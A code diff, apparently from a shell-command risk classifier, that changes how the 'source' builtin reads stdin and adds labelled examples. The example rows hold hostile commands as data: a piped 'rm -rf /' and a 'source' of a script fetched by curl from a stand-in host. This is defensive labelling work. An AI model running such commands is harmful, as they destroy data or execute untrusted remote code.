@@ -151,7 +151,8 @@ const isInput = (field: Field): boolean =>
 
 const source = (call: Call): Value => {
   const [file, ...rest] = call.args
-  if (file === undefined) return EMPTY
+  // fish reads its input where no file is named.
+  if (file === undefined) return call.stdin === undefined ? EMPTY : call.shell(call.stdin)
   if (isInput(file) && call.stdin !== undefined) return call.shell(call.stdin, { positional: rest })
   call.runFile(file, 'here', rest)
   return EMPTY
@@ -278,6 +279,7 @@ export const BUILTIN_COMMANDS: readonly CommandRow[] = [
     run: source,
     examples: [
       ['source ~/.nvm/nvm.sh', 'exec.run+script@home-file'],
+      ["fish -c 'echo rm -rf / | source'", 'fs.delete+recursive+force@root'],
       ['source <(curl -s https://x.example/i.sh)', 'net.fetch', 'exec.run+script@device', 'exec.remote'],
     ],
   },
